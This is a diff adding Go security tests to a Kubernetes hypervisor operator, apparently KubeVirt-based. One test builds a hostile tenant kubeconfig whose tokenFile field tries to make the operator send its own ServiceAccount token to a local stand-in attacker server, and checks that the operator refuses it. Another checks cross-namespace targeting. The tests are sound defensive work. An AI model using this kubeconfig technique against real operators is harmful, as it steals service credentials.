@@ -2,8 +2,15 @@ package hypervisorcluster_test
 
 import (
 	"context"
+	"encoding/base64"
+	"encoding/pem"
 	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -133,4 +140,95 @@ func TestKubeVirtRemoteClusterThroughKubeconfig(t *testing.T) {
 	if !apimeta.IsStatusConditionTrue(broken.Status.Conditions, meta.StalledCondition) {
 		t.Errorf("a broken kubeconfig must be Stalled: %v", broken.Status.Conditions)
 	}
+}
+
+// A tenant's kubeconfig may not make the operator read one of its own files
+// (here a stand-in for its ServiceAccount token) and send it to a server the
+// tenant chose: the file path is refused, the field named, and the server
+// never sees the file's bytes.
+func TestKubeconfigFilePathsAreRefused(t *testing.T) {
+	l := hypervisorlab.KubeVirt(t)
+	const marker = "operator-token-c0ffee-4242"
+	tokenFile := filepath.Join(t.TempDir(), "token")
+	if err := os.WriteFile(tokenFile, []byte(marker), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	var seen atomic.Value
+	seen.Store("")
+	attacker := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if h := r.Header.Get("Authorization"); h != "" {
+			seen.Store(h)
+		}
+		http.Error(w, "{}", http.StatusUnauthorized)
+	}))
+	defer attacker.Close()
+	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: attacker.Certificate().Raw})
+	kubeconfig := fmt.Sprintf(`apiVersion: v1
+kind: Config
+current-context: steal
+contexts:
+- name: steal
+  context: {cluster: attacker, user: operator}
+clusters:
+- name: attacker
+  cluster:
+    server: %s
+    certificate-authority-data: %s
+users:
+- name: operator
+  user:
+    tokenFile: %s
+`, attacker.URL, base64.StdEncoding.EncodeToString(ca), tokenFile)
+	l.Create(&corev1.Secret{
+		ObjectMeta: metav1.ObjectMeta{Name: "steal", Labels: map[string]string{meta.CredentialsLabel: "true"}},
+		Data:       map[string][]byte{"kubeconfig": []byte(kubeconfig)},
+	})
+	cluster := &hypervisorv1alpha1.HypervisorCluster{
+		ObjectMeta: metav1.ObjectMeta{Name: "kv-steal"},
+		Spec: hypervisorv1alpha1.HypervisorClusterSpec{
+			Provider: hypervisorv1alpha1.ProviderKubeVirt, CredentialsRef: &meta.LocalObjectReference{Name: "steal"},
+			HealthCheckInterval: &metav1.Duration{Duration: time.Second},
+		},
+	}
+	l.Create(cluster)
+	l.WaitReason(cluster, "KubeconfigInvalid", 30*time.Second)
+	ready := hypervisorlab.ReadyCondition(cluster.Status.Conditions)
+	if !strings.Contains(ready.Message, "tokenFile") {
+		t.Errorf("the refusal must name the field: %q", ready.Message)
+	}
+	if !apimeta.IsStatusConditionTrue(cluster.Status.Conditions, meta.StalledCondition) {
+		t.Errorf("a refused kubeconfig must be Stalled: %v", cluster.Status.Conditions)
+	}
+	if h := seen.Load().(string); strings.Contains(h, marker) {
+		t.Errorf("the operator sent its own file to the tenant's server: %q", h)
+	}
+}
+
+// On the operator's own cluster a namespaced HypervisorCluster cannot send
+// machines (and their cloud-init Secrets) into another namespace.
+func TestKubeVirtNamespaceMustBeOwn(t *testing.T) {
+	l := hypervisorlab.KubeVirt(t)
+	cluster := &hypervisorv1alpha1.HypervisorCluster{
+		ObjectMeta: metav1.ObjectMeta{Name: "kv-elsewhere"},
+		Spec: hypervisorv1alpha1.HypervisorClusterSpec{
+			Provider:            hypervisorv1alpha1.ProviderKubeVirt,
+			KubeVirt:            &hypervisorv1alpha1.KubeVirtClusterSpec{Namespace: "kube-system"},
+			HealthCheckInterval: &metav1.Duration{Duration: time.Second},
+		},
+	}
+	l.Create(cluster)
+	l.WaitReason(cluster, "NamespaceNotAllowed", 30*time.Second)
+	if msg := hypervisorlab.ReadyCondition(cluster.Status.Conditions).Message; !strings.Contains(msg, "spec.kubevirt.namespace") {
+		t.Errorf("the refusal must name the field: %q", msg)
+	}
+	own := &hypervisorv1alpha1.HypervisorCluster{
+		ObjectMeta: metav1.ObjectMeta{Name: "kv-own"},
+		Spec: hypervisorv1alpha1.HypervisorClusterSpec{
+			Provider:            hypervisorv1alpha1.ProviderKubeVirt,
+			KubeVirt:            &hypervisorv1alpha1.KubeVirtClusterSpec{Namespace: l.NS},
+			HealthCheckInterval: &metav1.Duration{Duration: time.Second},
+		},
+	}
+	l.Create(own)
+	l.WaitReason(own, "Connected", 30*time.Second)
 }
